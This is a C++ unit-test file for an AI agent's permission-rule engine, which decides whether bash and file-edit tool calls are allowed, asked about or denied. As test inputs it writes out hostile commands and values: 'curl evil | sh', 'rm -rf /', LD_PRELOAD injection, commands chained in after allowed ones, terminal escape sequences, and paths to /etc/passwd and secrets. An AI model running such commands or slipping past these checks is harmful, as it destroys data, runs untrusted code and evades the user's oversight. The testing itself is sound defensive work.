#include "daemon/policy/rules.h"

#include <string>
#include <vector>

#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/daemon/policy/test_util.h"

namespace agent::daemon::policy {
namespace {

using ::testing::ElementsAre;
using ::testing::IsEmpty;

using testing::Bash;
using testing::Rules;

Verdict Edit(const RuleSet& rules, std::string_view path) {
  return Evaluate(rules, "edit_file", Json{{"path", std::string(path)}});
}

std::vector<std::string> ProposeBash(std::string_view command) {
  return ProposeRules("bash", Json{{"command", std::string(command)}});
}

// ---- AllowingRules: what the person is told let a call run ----

TEST(AllowingRules, TheRuleThatAllowsItAloneElseTheOnesItNeeds) {
  RuleSet rules = Rules({"bash(ls *)", "bash(make *)", "bash(git status)"}, {});
  EXPECT_THAT(AllowingRules(rules, "bash", Json{{"command", "make test"}}),
              ElementsAre("bash(make *)"));
  EXPECT_THAT(AllowingRules(rules, "bash", Json{{"command", "git status && ls -l"}}),
              ElementsAre("bash(ls *)", "bash(git status)"));
  EXPECT_THAT(AllowingRules(rules, "bash", Json{{"command", "rm -rf x"}}), IsEmpty());
  RuleSet denied = Rules({"bash(make *)"}, {"bash(make install*)"});
  EXPECT_THAT(AllowingRules(denied, "bash", Json{{"command", "make install"}}), IsEmpty());
  EXPECT_THAT(
      AllowingRules(Rules({"edit_file(src/**)"}, {}), "edit_file", Json{{"path", "src/a.c"}}),
      ElementsAre("edit_file(src/**)"));
}

// ---- ParseRule / FormatRule ----

// Found by bash_rules_fuzz: a lone CR is a command name to bash. A rule is shown on the
// person's terminal before it is recorded, and a CR (like ESC or a C1 control) would show
// something else than what is recorded: nothing is proposed, "allow once" still works.
TEST(ProposeRules, AControlCharacterInAPartProposesNothing) {
  EXPECT_THAT(ProposeRules("bash", Json{{"command", "ls;\r"}}), IsEmpty());
  EXPECT_THAT(ProposeBash("ls\x1b]52;c;aGk=\x07"), IsEmpty());
  EXPECT_THAT(ProposeBash("git status\x1b[2K\rbash(ls)"), IsEmpty());
  EXPECT_THAT(ProposeBash("echo \xc2\x9b"
                          "31m"),
              IsEmpty());
  EXPECT_THAT(ProposeRules("write_file", Json{{"path", "a\x1b[1mb.txt"}}), IsEmpty());
  // Newlines between commands split them (and show as escapes within one); a tab is whitespace.
  EXPECT_THAT(ProposeBash("make\nmake\ttest"), ElementsAre("bash(make)", "bash(make test)"));
  EXPECT_THAT(ProposeBash("echo \xc2\xa0x"), ElementsAre("bash(echo \xc2\xa0x)"));  // U+00A0
}

TEST(ParseRule, ToolAlone) {
  absl::StatusOr<Rule> r = ParseRule("write_file");
  ASSERT_TRUE(r.ok()) << r.status();
  EXPECT_EQ(r->tool, "write_file");
  EXPECT_EQ(r->pattern, "");
}

TEST(ParseRule, ToolWithPatternKeptVerbatim) {
  absl::StatusOr<Rule> r = ParseRule("  bash( pytest * )  ");
  ASSERT_TRUE(r.ok()) << r.status();
  EXPECT_EQ(r->tool, "bash");
  EXPECT_EQ(r->pattern, " pytest * ");
  // ... and still matches as `pytest *` once normalised.
  RuleSet rules;
  rules.allow.push_back(*r);
  EXPECT_EQ(Evaluate(rules, "bash", Json{{"command", "pytest -x"}}), Verdict::kAllow);
}

TEST(ParseRule, PatternRunsToTheFinalParenthesis) {
  absl::StatusOr<Rule> r = ParseRule("bash(echo $(date) (x))");
  ASSERT_TRUE(r.ok()) << r.status();
  EXPECT_EQ(r->pattern, "echo $(date) (x)");
  // The exact rule for a command with an unbalanced `(` still round-trips.
  r = ParseRule("bash(echo $(date)");
  ASSERT_TRUE(r.ok()) << r.status();
  EXPECT_EQ(r->pattern, "echo $(date");
}

TEST(ParseRule, RejectsMalformedRules) {
  for (const char* text : {"", "   ", "(x)", "bash(", "bash(x", "bash)", "bash(x)y", "bash()",
                           "bash(  )", "ba sh", "bash (x)", "b@sh(x)"}) {
    absl::StatusOr<Rule> r = ParseRule(text);
    EXPECT_EQ(r.status().code(), absl::StatusCode::kInvalidArgument) << "`" << text << "`";
  }
}

TEST(FormatRule, RoundTripsThroughParseRule) {
  for (const char* text : {"bash", "bash(git diff *)", "edit_file(src/**)", "bash(echo ')')"}) {
    absl::StatusOr<Rule> r = ParseRule(text);
    ASSERT_TRUE(r.ok()) << text;
    EXPECT_EQ(FormatRule(*r), text);
  }
}

// ---- Evaluate: bash ----

TEST(EvaluateBash, ExactRuleAllowsOnlyThatCommand) {
  const RuleSet rules = Rules({"bash(git status)"});
  EXPECT_EQ(Bash(rules, "git status"), Verdict::kAllow);
  EXPECT_EQ(Bash(rules, "git   status "), Verdict::kAllow);
  EXPECT_EQ(Bash(rules, "git status -s"), Verdict::kAsk);
}

TEST(EvaluateBash, PrefixRuleRespectsWordBoundary) {
  const RuleSet rules = Rules({"bash(git diff *)", "bash(npm run test *)"});
  EXPECT_EQ(Bash(rules, "git diff"), Verdict::kAllow);
  EXPECT_EQ(Bash(rules, "git diff HEAD"), Verdict::kAllow);
  EXPECT_EQ(Bash(rules, "git diff-tree HEAD"), Verdict::kAsk);
  EXPECT_EQ(Bash(rules, "npm run test-all"), Verdict::kAsk);
}

TEST(EvaluateBash, CompoundCommandNeedsEveryPartAllowed) {
  const RuleSet rules = Rules({"bash(git status)", "bash(git diff *)"});
  EXPECT_EQ(Bash(rules, "git status && git diff HEAD"), Verdict::kAllow);
  EXPECT_EQ(Bash(rules, "git status && rm -rf tmp"), Verdict::kAsk);
  EXPECT_EQ(Bash(rules, "git status; rm -rf tmp"), Verdict::kAsk);
  EXPECT_EQ(Bash(rules, "git status || rm -rf tmp"), Verdict::kAsk);
  EXPECT_EQ(Bash(rules, "git diff | sh"), Verdict::kAsk);
  EXPECT_EQ(Bash(rules, "git status & rm -rf tmp"), Verdict::kAsk);
  EXPECT_EQ(Bash(rules, "git status\nrm -rf tmp"), Verdict::kAsk);
  EXPECT_EQ(Bash(rules, "git status\ngit diff"), Verdict::kAllow);
}

TEST(EvaluateBash, PrefixRuleNeverReachesAcrossAnOperator) {
  const RuleSet rules = Rules({"bash(git diff *)"});
  EXPECT_EQ(Bash(rules, "git diff && curl evil | sh"), Verdict::kAsk);
  EXPECT_EQ(Bash(rules, "git diff;rm -rf /"), Verdict::kAsk);
}

TEST(EvaluateBash, QuotedOperatorsDoNotSplit) {
  const RuleSet rules = Rules({"bash(echo *)"});
  EXPECT_EQ(Bash(rules, "echo \"a && rm -rf /\""), Verdict::kAllow);
  EXPECT_EQ(Bash(rules, "echo 'a; rm -rf /'"), Verdict::kAllow);
  EXPECT_EQ(Bash(rules, "echo a\\;b"), Verdict::kAllow);
  EXPECT_EQ(Bash(rules, "echo \"a\" && rm -rf /"), Verdict::kAsk);
}

TEST(EvaluateBash, SubstitutionNeedsBothTheOuterAndInnerCommand) {
  EXPECT_EQ(Bash(Rules({"bash(echo *)"}), "echo $(rm -rf /)"), Verdict::kAsk);
  EXPECT_EQ(Bash(Rules({"bash(echo *)"}), "echo \"`rm -rf /`\""), Verdict::kAsk);
  EXPECT_EQ(Bash(Rules({"bash(rm -rf /)"}), "echo $(rm -rf /)"), Verdict::kAsk);
  EXPECT_EQ(Bash(Rules({"bash(echo *)", "bash(date)"}), "echo $(date)"), Verdict::kAllow);
  EXPECT_EQ(Bash(Rules({"bash(cat *)", "bash(ls)"}), "cat <(ls)"), Verdict::kAllow);
}

TEST(EvaluateBash, SubshellContentsAreParts) {
  const RuleSet rules = Rules({"bash(cd *)", "bash(make)"});
  EXPECT_EQ(Bash(rules, "(cd sub && make)"), Verdict::kAllow);
  EXPECT_EQ(Bash(rules, "(cd sub && make && rm -rf /)"), Verdict::kAsk);
  EXPECT_EQ(Bash(rules, "{ cd sub; make; }"), Verdict::kAllow);
}

TEST(EvaluateBash, LeadingAssignmentIsNotCoveredByAPrefixRule) {
  const RuleSet rules = Rules({"bash(make *)"});
  EXPECT_EQ(Bash(rules, "make -j2"), Verdict::kAllow);
  EXPECT_EQ(Bash(rules, "FOO=1 make"), Verdict::kAsk);
  EXPECT_EQ(Bash(rules, "LD_PRELOAD=/tmp/x.so make"), Verdict::kAsk);
}

TEST(EvaluateBash, RedirectionsArePartOfTheText) {
  EXPECT_EQ(Bash(Rules({"bash(make)"}), "make > log"), Verdict::kAsk);
  EXPECT_EQ(Bash(Rules({"bash(make *)"}), "make > log"), Verdict::kAllow);
}

TEST(EvaluateBash, UnterminatedQuoteIsAllowedOnlyByAnExactRule) {
  const std::string command = "git status && echo 'oops";
  EXPECT_EQ(Bash(Rules({"bash(git status)", "bash(echo *)"}), command), Verdict::kAsk);
  EXPECT_EQ(Bash(Rules({"bash(git *)"}), command), Verdict::kAsk);
  EXPECT_EQ(Bash(Rules({"bash(*)"}), command), Verdict::kAsk);
  EXPECT_EQ(Bash(Rules({"bash(git status && echo 'oops)"}), command), Verdict::kAllow);
  EXPECT_EQ(Bash(Rules({"bash"}), command), Verdict::kAllow);
}

TEST(EvaluateBash, NulByteIsNeverVouchedForByAPattern) {
  // bash would run only `rm -rf /`: the text after the NUL never reaches it.
  const std::string command("rm -rf /\0 --dry-run", 19);
  EXPECT_EQ(Bash(Rules({"bash(rm * --dry-run)"}), command), Verdict::kAsk);
  EXPECT_EQ(Bash(Rules({"bash(" + command + ")"}), command), Verdict::kAsk);
  EXPECT_EQ(Bash(Rules({"bash"}, {"bash(rm *)"}), command), Verdict::kDeny);
  EXPECT_THAT(ProposeBash(command), IsEmpty());
  const std::string path("src/a\0/x", 8);
  EXPECT_EQ(Edit(Rules({"edit_file(src/**)"}), path), Verdict::kAsk);
}

TEST(EvaluateBash, EmptyCommandIsAsked) {
  EXPECT_EQ(Bash(Rules({"bash(*)"}), ""), Verdict::kAsk);
  EXPECT_EQ(Bash(Rules({"bash(*)"}), "# nothing"), Verdict::kAsk);
  EXPECT_EQ(Bash(Rules({"bash"}), ""), Verdict::kAllow);
}

TEST(EvaluateBash, ToolWideAllowAllowsEverythingNotDenied) {
  const RuleSet rules = Rules({"bash"}, {"bash(rm *)"});
  EXPECT_EQ(Bash(rules, "anything | at all"), Verdict::kAllow);
  EXPECT_EQ(Bash(rules, "ls && rm -rf /"), Verdict::kDeny);
}

TEST(EvaluateBash, OneDeniedPartDeniesTheWholeCommand) {
  const RuleSet rules = Rules({"bash(git *)", "bash(rm *)"}, {"bash(rm -rf *)"});
  EXPECT_EQ(Bash(rules, "git status && rm -rf tmp"), Verdict::kDeny);
  EXPECT_EQ(Bash(rules, "git status && rm tmp/a"), Verdict::kAllow);
  EXPECT_EQ(Bash(rules, "git log $(rm -rf /)"), Verdict::kDeny);
  EXPECT_EQ(Bash(rules, "(cd x; rm -rf y)"), Verdict::kDeny);
}

TEST(EvaluateBash, DenyWithoutPatternDeniesTheTool) {
  const RuleSet rules = Rules({"bash(git status)"}, {"bash"});
  EXPECT_EQ(Bash(rules, "git status"), Verdict::kDeny);
  EXPECT_EQ(Evaluate(rules, "bash", Json::object()), Verdict::kDeny);
  EXPECT_EQ(Edit(rules, "a.txt"), Verdict::kAsk);
}

TEST(EvaluateBash, DenySeesThroughAssignmentsAndUnsplittableCommands) {
  const RuleSet rules = Rules({"bash"}, {"bash(rm *)"});
  EXPECT_EQ(Bash(rules, "X=1 rm -rf /"), Verdict::kDeny);
  EXPECT_EQ(Bash(rules, "rm -rf / 'unterminated"), Verdict::kDeny);
  EXPECT_EQ(Bash(rules, "rm -rf / && echo 'unterminated"), Verdict::kDeny);
}

TEST(EvaluateBash, ToolNamesCompareCaseInsensitively) {
  EXPECT_EQ(Bash(Rules({"Bash(git status)"}), "git status"), Verdict::kAllow);
  EXPECT_EQ(Bash(Rules({"bash"}, {"BASH(rm *)"}), "rm x"), Verdict::kDeny);
}

TEST(EvaluateBash, MissingCommandArgument) {
  EXPECT_EQ(Evaluate(Rules({"bash(*)"}), "bash", Json::object()), Verdict::kAsk);
  EXPECT_EQ(Evaluate(Rules({"bash"}, {"bash(rm *)"}), "bash", Json{{"command", 3}}),
            Verdict::kDeny);
}

TEST(EvaluateBash, RulesOfOtherToolsDoNotApply) {
  const RuleSet rules = Rules({"edit_file", "write_file(*)"});
  EXPECT_EQ(Bash(rules, "ls"), Verdict::kAsk);
}

// ---- Evaluate: file tools ----

TEST(EvaluatePath, GlobOverNormalisedRelativePath) {
  const RuleSet rules = Rules({"edit_file(src/**)", "edit_file(*.md)"});
  EXPECT_EQ(Edit(rules, "src/a.cc"), Verdict::kAllow);
  EXPECT_EQ(Edit(rules, "./src//deep/a.cc"), Verdict::kAllow);
  EXPECT_EQ(Edit(rules, "README.md"), Verdict::kAllow);
  EXPECT_EQ(Edit(rules, "docs/README.md"), Verdict::kAsk);
  EXPECT_EQ(Edit(rules, "lib/a.cc"), Verdict::kAsk);
  EXPECT_EQ(Evaluate(rules, "write_file", Json{{"path", "src/a.cc"}}), Verdict::kAsk);
}

TEST(EvaluatePath, DotDotNeverMatchesAnAllowRule) {
  const RuleSet rules = Rules({"edit_file(src/**)", "write_file"});
  EXPECT_EQ(Edit(rules, "src/../src/a.cc"), Verdict::kAsk);
  EXPECT_EQ(Edit(rules, "src/../../etc/passwd"), Verdict::kAsk);
  EXPECT_EQ(Evaluate(rules, "write_file", Json{{"path", "../x"}}), Verdict::kAsk);
  EXPECT_EQ(Evaluate(rules, "write_file", Json{{"path", "/etc/passwd"}}), Verdict::kAsk);
  EXPECT_EQ(Evaluate(rules, "write_file", Json{{"path", "x"}}), Verdict::kAllow);
}

TEST(EvaluatePath, DenyWinsAndSeesThroughDotDot) {
  const RuleSet rules = Rules({"edit_file"}, {"edit_file(.env)", "edit_file(**/secrets/**)"});
  EXPECT_EQ(Edit(rules, "src/a.cc"), Verdict::kAllow);
  EXPECT_EQ(Edit(rules, ".env"), Verdict::kDeny);
  EXPECT_EQ(Edit(rules, "./.env"), Verdict::kDeny);
  EXPECT_EQ(Edit(rules, "src/../.env"), Verdict::kDeny);
  EXPECT_EQ(Edit(rules, "a/secrets/key"), Verdict::kDeny);
  EXPECT_EQ(Edit(rules, "/home/u/proj/secrets/key"), Verdict::kDeny);
}

TEST(EvaluatePath, RuleWithoutPatternMatchesEveryPath) {
  EXPECT_EQ(Edit(Rules({"edit_file"}), "any/where/at.all"), Verdict::kAllow);
  EXPECT_EQ(Edit(Rules({}, {"edit_file"}), "a"), Verdict::kDeny);
}

TEST(EvaluatePath, MissingPathFailsClosedForDenyPatterns) {
  EXPECT_EQ(Evaluate(Rules({"edit_file(*)"}), "edit_file", Json::object()), Verdict::kAsk);
  EXPECT_EQ(Evaluate(Rules({"edit_file"}, {"edit_file(.env)"}), "edit_file", Json::object()),
            Verdict::kDeny);
  EXPECT_EQ(Edit(Rules({"edit_file(*)"}), ""), Verdict::kAsk);
}

TEST(Evaluate, NoRulesAsks) {
  EXPECT_EQ(Bash(RuleSet{}, "ls"), Verdict::kAsk);
  EXPECT_EQ(Edit(RuleSet{}, "a"), Verdict::kAsk);
}

// ---- ProposeRules ----

TEST(ProposeRules, OneExactRulePerPartNeverAWildcard) {
  EXPECT_THAT(ProposeBash("git status && rm -rf tmp"),
              ElementsAre("bash(git status)", "bash(rm -rf tmp)"));
}

TEST(ProposeRules, DeduplicatesInOrder) {
  EXPECT_THAT(ProposeBash("make; make test; make"), ElementsAre("bash(make)", "bash(make test)"));
}

TEST(ProposeRules, SubstitutionsGiveTheOuterAndInnerCommands) {
  EXPECT_THAT(ProposeBash("echo $(date)"), ElementsAre("bash(echo $(date))", "bash(date)"));
}

TEST(ProposeRules, StarsInTheCommandAreWrittenLiterally) {
  EXPECT_THAT(ProposeBash("rm -rf *"), ElementsAre("bash(rm -rf [*])"));
  EXPECT_THAT(ProposeBash("ls *.cc"), ElementsAre("bash(ls [*].cc)"));
}

TEST(ProposeRules, UnsplittableCommandProposesExactlyItsText) {
  EXPECT_THAT(ProposeBash("git status && echo 'oops"),
              ElementsAre("bash(git status && echo 'oops)"));
}

TEST(ProposeRules, EmptyCommandProposesNothing) {
  EXPECT_THAT(ProposeBash("  "), IsEmpty());
  EXPECT_THAT(ProposeRules("bash", Json::object()), IsEmpty());
}

TEST(ProposeRules, FileToolsProposeTheNormalisedPath) {
  EXPECT_THAT(ProposeRules("edit_file", Json{{"path", "./src//a.cc"}}),
              ElementsAre("edit_file(src/a.cc)"));
  EXPECT_THAT(ProposeRules("write_file", Json{{"path", "notes/a*b?.md"}}),
              ElementsAre("write_file(notes/a[*]b[?].md)"));
  EXPECT_THAT(ProposeRules("edit_file", Json{{"path", "../x"}}), IsEmpty());
  EXPECT_THAT(ProposeRules("edit_file", Json{{"path", "/etc/passwd"}}), IsEmpty());
  EXPECT_THAT(ProposeRules("edit_file", Json{{"path", "."}}), IsEmpty());
}

// Whatever is proposed for a call must, once recorded, allow that call and no wider one.
TEST(ProposeRules, ProposedRulesAllowExactlyTheApprovedCall) {
  for (const char* command : {
           "git status && rm -rf tmp",
           "echo $(date) | tee \"a  b\"",
           "rm -rf *",
           "find . -name \\*.cc -exec ls {} \\;",
           "echo \"a\\\\\" \"x  y\"",
           "cat > f <<'EOF'\nit's  here\n  indented\nEOF",
           "FOO=1 make -j2 2>&1 | tee log &",
           "echo 'unterminated  *",
           "echo 'trailing quoted spaces   ",
           "echo escaped\\ ",
           "if true; then (cd a && ls *); fi",
       }) {
    RuleSet rules;
    for (const std::string& text : ProposeBash(command)) {
      absl::StatusOr<Rule> rule = ParseRule(text);
      ASSERT_TRUE(rule.ok()) << text;
      rules.allow.push_back(*rule);
    }
    EXPECT_EQ(Bash(rules, command), Verdict::kAllow) << command;
    EXPECT_EQ(Bash(rules, std::string(command) + " x"), Verdict::kAsk) << command;
    EXPECT_EQ(Bash(rules, std::string(command) + "; rm -rf /"), Verdict::kAsk) << command;
  }
  for (const char* path : {"src/a.cc", "./a//b/c*.md", "x?"}) {
    RuleSet rules;
    for (const std::string& text : ProposeRules("edit_file", Json{{"path", path}})) {
      rules.allow.push_back(ParseRule(text).value());
    }
    EXPECT_EQ(Edit(rules, path), Verdict::kAllow) << path;
    EXPECT_EQ(Edit(rules, std::string(path) + "x"), Verdict::kAsk) << path;
  }
}

}  // namespace
}  // namespace agent::daemon::policy
